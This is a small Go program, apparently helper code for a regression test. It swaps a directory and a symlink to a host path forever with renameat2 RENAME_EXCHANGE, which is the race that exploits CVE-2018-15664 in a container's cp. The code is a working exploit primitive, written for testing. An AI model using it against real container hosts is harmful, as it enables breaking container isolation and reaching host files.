// Command cpswap exchanges two paths forever with renameat2(RENAME_EXCHANGE): run inside a
// container on a directory and a symlink to a host path, it is the attacker of CVE-2018-15664
// (`cp` resolving a path in the container once, then using it as a string). The cp race test
// builds it static and bind-mounts it into a container; busybox has no such exchanger.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: cpswap PATH1 PATH2")
		os.Exit(2)
	}
	a, b := os.Args[1], os.Args[2]
	if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
		fmt.Fprintln(os.Stderr, "cpswap:", err)
		os.Exit(1)
	}
	fmt.Println("swapping") // the test waits for this line before it starts copying
	for {
		unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
	}
}
